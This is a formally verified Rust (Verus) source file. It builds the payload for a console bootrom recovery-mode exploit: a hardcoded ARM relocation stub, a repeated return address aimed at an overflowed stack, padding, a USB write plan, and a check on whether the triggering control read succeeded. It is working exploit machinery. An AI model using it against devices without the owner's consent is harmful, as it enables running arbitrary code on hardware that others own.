//! Building the payload that is sent to a console in recovery mode (RCM).
//!
//! The payload starts with its length word, then the address of the
//! intermezzo repeated over the stack that the bootrom overflows, then the
//! intermezzo, and one packet later the user's payload; it is padded with zero
//! bytes to a whole number of packets.

use vstd::prelude::*;
use vstd::utf8::encode_utf8;

use crate::codec::le32;
use crate::paths::{path_extension, path_extension_of};

verus! {

/// The relocating stub that moves the user's payload into place and jumps to it.
pub const INTERMEZZO: [u8; 92] = [
    0x44, 0x00, 0x9f, 0xe5, 0x01, 0x11, 0xa0, 0xe3, 0x40, 0x20, 0x9f, 0xe5, 0x00, 0x20, 0x42, 0xe0,
    0x08, 0x00, 0x00, 0xeb, 0x01, 0x01, 0xa0, 0xe3, 0x10, 0xff, 0x2f, 0xe1, 0x00, 0x00, 0xa0, 0xe1,
    0x2c, 0x00, 0x9f, 0xe5, 0x2c, 0x10, 0x9f, 0xe5, 0x02, 0x28, 0xa0, 0xe3, 0x01, 0x00, 0x00, 0xeb,
    0x20, 0x00, 0x9f, 0xe5, 0x10, 0xff, 0x2f, 0xe1, 0x04, 0x30, 0x90, 0xe4, 0x04, 0x30, 0x81, 0xe4,
    0x04, 0x20, 0x52, 0xe2, 0xfb, 0xff, 0xff, 0x1a, 0x1e, 0xff, 0x2f, 0xe1, 0x20, 0xf0, 0x01, 0x40,
    0x5c, 0xf0, 0x01, 0x40, 0x00, 0x00, 0x02, 0x40, 0x00, 0x00, 0x01, 0x40,
];

pub const RCM_PAYLOAD_ADDRESS: u32 = 0x4001_0000;
pub const INTERMEZZO_LOCATION: u32 = 0x4001_F000;
pub const INTERMEZZO_ADDRESS_START: usize = 0x2a8;
pub const PACKET_SIZE: u32 = 0x1000;
pub const RCM_LENGTH: u32 = 0x30298;
pub const INTERMEZZO_ADDRESS_REPEAT_COUNT: u32 = (INTERMEZZO_LOCATION - RCM_PAYLOAD_ADDRESS) / 4;

/// Where the intermezzo starts: just after the repeated addresses.
pub open spec fn intermezzo_start() -> int {
    INTERMEZZO_ADDRESS_START + 4 * INTERMEZZO_ADDRESS_REPEAT_COUNT
}

/// Where the user's payload starts: one packet after the intermezzo's start.
pub open spec fn user_payload_start() -> int {
    intermezzo_start() + PACKET_SIZE
}

/// The size of the RCM payload around a user payload of `len` bytes: everything
/// up to the end of the user payload, rounded up to a whole number of packets.
pub open spec fn rcm_size_for(len: nat) -> int {
    ((user_payload_start() + len + PACKET_SIZE - 1) / PACKET_SIZE as int) * PACKET_SIZE
}

/// Byte `k` of the RCM payload around `payload`.
pub open spec fn rcm_payload_byte(payload: Seq<u8>, k: int) -> u8 {
    if 0 <= k < 4 {
        le32(RCM_LENGTH)[k]
    } else if INTERMEZZO_ADDRESS_START <= k < intermezzo_start() {
        le32(INTERMEZZO_LOCATION)[(k - INTERMEZZO_ADDRESS_START) % 4]
    } else if intermezzo_start() <= k < intermezzo_start() + 92 {
        INTERMEZZO@[k - intermezzo_start()]
    } else if user_payload_start() <= k < user_payload_start() + payload.len() {
        payload[k - user_payload_start()]
    } else {
        0
    }
}

/// Whether `out` is exactly the RCM payload around `payload`.
pub open spec fn is_rcm_payload(out: Seq<u8>, payload: Seq<u8>) -> bool {
    &&& out.len() == rcm_size_for(payload.len())
    &&& forall|k: int| 0 <= k < out.len() ==> #[trigger] out[k] == rcm_payload_byte(payload, k)
}

/// The largest user payload whose RCM payload size is a `u32`: the size rounds
/// up to `0xFFFF_F000` at most.
pub const MAX_USER_PAYLOAD_LEN: usize = 0xFFFE_ED58;

/// `MAX_USER_PAYLOAD_LEN` is the largest length for which the RCM payload size fits in a `u32`.
pub proof fn lemma_max_user_payload_len()
    ensures
        MAX_USER_PAYLOAD_LEN + user_payload_start() == 0xFFFF_F000,
{
}

/// Appends `byte`, which is byte `out.len()` of the RCM payload.
fn push_rcm_byte(out: &mut Vec<u8>, byte: u8, Ghost(payload): Ghost<Seq<u8>>)
    requires
        forall|k: int| 0 <= k < old(out)@.len() ==> #[trigger] old(out)@[k] == rcm_payload_byte(payload, k),
        byte == rcm_payload_byte(payload, old(out)@.len() as int),
    ensures
        final(out)@ == old(out)@.push(byte),
        forall|k: int| 0 <= k < final(out)@.len() ==> #[trigger] final(out)@[k] == rcm_payload_byte(payload, k),
{
    out.push(byte);
    assert forall|k: int| 0 <= k < out@.len() implies #[trigger] out@[k] == rcm_payload_byte(payload, k) by {
        if k < out@.len() - 1 {
            assert(out@[k] == old(out)@[k]);
        }
    }
}

/// Builds the RCM payload around `payload`. It fails when the length of
/// `payload` does not fit in a `u32`.
pub fn create_rcm_payload(payload: &[u8]) -> (res: Result<Vec<u8>, core::num::TryFromIntError>)
    requires
        payload@.len() > u32::MAX || payload@.len() <= MAX_USER_PAYLOAD_LEN,
    ensures
        res is Err <==> payload@.len() > u32::MAX,
        res matches Ok(out) ==> is_rcm_payload(out@, payload@),
{
    let len32 = match u32::try_from(payload.len()) {
        Ok(n) => n,
        Err(e) => return Err(e),
    };
    assert(INTERMEZZO_ADDRESS_REPEAT_COUNT == 0x3c00);
    let unpadded: u32 = INTERMEZZO_ADDRESS_START as u32 + 4 * INTERMEZZO_ADDRESS_REPEAT_COUNT
        + PACKET_SIZE + len32;
    assert(unpadded as int == user_payload_start() + payload@.len());
    assert(unpadded <= 0xFFFF_F000);
    let rcm_payload_size: u32 = ((unpadded + (PACKET_SIZE - 1)) / PACKET_SIZE) * PACKET_SIZE;
    assert(rcm_payload_size == rcm_size_for(payload@.len()));
    let total = rcm_payload_size as usize;
    let ghost p = payload@;
    let mut out: Vec<u8> = Vec::new();

    // The length word.
    let length_word: [u8; 4] = [0x98, 0x02, 0x03, 0x00];
    assert(length_word@ =~= le32(RCM_LENGTH));
    let mut k: usize = 0;
    while k < 4
        invariant
            k <= 4,
            out@.len() == k,
            length_word@ == le32(RCM_LENGTH),
            forall|j: int| 0 <= j < out@.len() ==> #[trigger] out@[j] == rcm_payload_byte(p, j),
        decreases 4 - k,
    {
        push_rcm_byte(&mut out, length_word[k], Ghost(p));
        k = k + 1;
    }
    // Zeros up to the repeated addresses.
    while out.len() < INTERMEZZO_ADDRESS_START
        invariant
            4 <= out@.len() <= INTERMEZZO_ADDRESS_START,
            forall|j: int| 0 <= j < out@.len() ==> #[trigger] out@[j] == rcm_payload_byte(p, j),
        decreases INTERMEZZO_ADDRESS_START - out@.len(),
    {
        push_rcm_byte(&mut out, 0, Ghost(p));
    }
    // The intermezzo's address, repeated.
    let location_word: [u8; 4] = [0x00, 0xf0, 0x01, 0x40];
    assert(location_word@ =~= le32(INTERMEZZO_LOCATION));
    let intermezzo_at: usize = INTERMEZZO_ADDRESS_START + 4 * INTERMEZZO_ADDRESS_REPEAT_COUNT as usize;
    while out.len() < intermezzo_at
        invariant
            INTERMEZZO_ADDRESS_START <= out@.len() <= intermezzo_at,
            intermezzo_at == intermezzo_start(),
            location_word@ == le32(INTERMEZZO_LOCATION),
            forall|j: int| 0 <= j < out@.len() ==> #[trigger] out@[j] == rcm_payload_byte(p, j),
        decreases intermezzo_at - out@.len(),
    {
        let i = (out.len() - INTERMEZZO_ADDRESS_START) % 4;
        push_rcm_byte(&mut out, location_word[i], Ghost(p));
    }
    // The intermezzo.
    let mut k: usize = 0;
    while k < 92
        invariant
            k <= 92,
            out@.len() == intermezzo_start() + k,
            forall|j: int| 0 <= j < out@.len() ==> #[trigger] out@[j] == rcm_payload_byte(p, j),
        decreases 92 - k,
    {
        push_rcm_byte(&mut out, INTERMEZZO[k], Ghost(p));
        k = k + 1;
    }
    // Zeros up to the user's payload.
    let payload_at: usize = intermezzo_at + PACKET_SIZE as usize;
    while out.len() < payload_at
        invariant
            intermezzo_start() + 92 <= out@.len() <= payload_at,
            payload_at == user_payload_start(),
            forall|j: int| 0 <= j < out@.len() ==> #[trigger] out@[j] == rcm_payload_byte(p, j),
        decreases payload_at - out@.len(),
    {
        push_rcm_byte(&mut out, 0, Ghost(p));
    }
    // The user's payload.
    let mut k: usize = 0;
    while k < payload.len()
        invariant
            k <= p.len(),
            p == payload@,
            out@.len() == user_payload_start() + k,
            forall|j: int| 0 <= j < out@.len() ==> #[trigger] out@[j] == rcm_payload_byte(p, j),
        decreases p.len() - k,
    {
        push_rcm_byte(&mut out, payload[k], Ghost(p));
        k = k + 1;
    }
    // Zeros up to a whole number of packets.
    while out.len() < total
        invariant
            user_payload_start() + p.len() <= out@.len() <= total,
            total == rcm_size_for(p.len()),
            forall|j: int| 0 <= j < out@.len() ==> #[trigger] out@[j] == rcm_payload_byte(p, j),
        decreases total - out@.len(),
    {
        push_rcm_byte(&mut out, 0, Ghost(p));
    }
    Ok(out)
}

/// Whether `path` has the extension `bin`, which RCM payload files must have.
pub open spec fn is_rcm_payload_path_spec(path: Seq<char>) -> bool {
    path_extension_of(path) matches Some(e) && encode_utf8(e) == seq![0x62u8, 0x69u8, 0x6eu8]
}

/// Whether an extension, as `Path::extension` gives it, is `bin`.
pub fn extension_is_bin(ext: &Option<String>) -> (res: bool)
    ensures
        res == (ext matches Some(e) && encode_utf8(e@) == seq![0x62u8, 0x69u8, 0x6eu8]),
{
    match ext {
        None => false,
        Some(ext) => {
            let bin: [u8; 3] = [0x62, 0x69, 0x6e];
            assert(bin@ =~= seq![0x62u8, 0x69u8, 0x6eu8]);
            crate::codec::bytes_equal(ext.as_str().as_bytes(), bin.as_slice())
        },
    }
}

/// Whether `path` has the extension `bin`, which RCM payload files must have.
pub fn is_rcm_payload_path(path: &str) -> (res: bool)
    ensures
        res == is_rcm_payload_path_spec(path@),
{
    extension_is_bin(&path_extension(path))
}

/// How the RCM payload goes to the console: in writes of one packet (the last
/// one possibly shorter), and one more write of a zero packet when their number
/// is even, so that the number of writes is odd.
pub fn usb_write_plan(rcm_payload_len: usize) -> (plan: (usize, bool))
    ensures
        plan.0 == (rcm_payload_len + PACKET_SIZE - 1) / PACKET_SIZE as int,
        plan.1 == (plan.0 % 2 != 1),
        (plan.0 + if plan.1 { 1int } else { 0int }) % 2 == 1,
{
    let chunks = rcm_payload_len / PACKET_SIZE as usize + if rcm_payload_len % PACKET_SIZE as usize
        == 0 {
        0
    } else {
        1
    };
    (chunks, chunks % 2 != 1)
}

/// USB vendor id of NVIDIA, under which a console in recovery mode shows up.
pub const RCM_VENDOR_ID: u16 = 0x0955;

/// Whether a USB device is a console in recovery mode.
pub fn is_rcm_device(vendor_id: u16) -> (res: bool)
    ensures
        res == (vendor_id == RCM_VENDOR_ID),
{
    vendor_id == RCM_VENDOR_ID
}

/// How the control read that triggers the bootrom bug ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum TriggerOutcome {
    /// The transfer was cancelled: the console stopped answering, as it does once
    /// it runs the payload.
    Cancelled,
    /// The transfer failed otherwise.
    Failed,
    /// Data came back: the bug was probably not triggered.
    ReadData,
}

/// Whether the payload was injected: only a cancelled transfer means success.
pub fn payload_injected(outcome: TriggerOutcome) -> (ok: bool)
    ensures
        ok == (outcome == TriggerOutcome::Cancelled),
{
    match outcome {
        TriggerOutcome::Cancelled => true,
        _ => false,
    }
}

/// The RCM payload fills whole packets, holds the user payload after the fixed
/// part, and is less than one packet longer than that.
pub proof fn lemma_rcm_payload_layout(len: nat)
    ensures
        rcm_size_for(len) % PACKET_SIZE as int == 0,
        user_payload_start() + len <= rcm_size_for(len) < user_payload_start() + len + PACKET_SIZE,
{
    let x = user_payload_start() + len;
    assert(((x + 0xfff) / 0x1000) * 0x1000 % 0x1000 == 0) by (nonlinear_arith)
        requires x >= 0;
    assert(x <= ((x + 0xfff) / 0x1000) * 0x1000 < x + 0x1000) by (nonlinear_arith)
        requires x >= 0;
}

} // verus!
